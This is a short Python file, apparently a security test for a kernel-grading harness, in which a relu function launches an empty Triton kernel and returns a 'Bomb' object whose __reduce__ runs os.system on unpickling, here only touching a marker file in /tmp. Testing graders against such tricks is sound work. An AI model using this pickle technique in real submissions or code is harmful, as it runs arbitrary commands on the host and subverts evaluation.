import os

import triton
import triton.language as tl


@triton.jit
def nothing(x, BLOCK: tl.constexpr):
    tl.arange(0, BLOCK)


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/warpgrade-attack-pickle",)


def relu(x):
    nothing[(1,)](x, BLOCK=16)
    return Bomb()
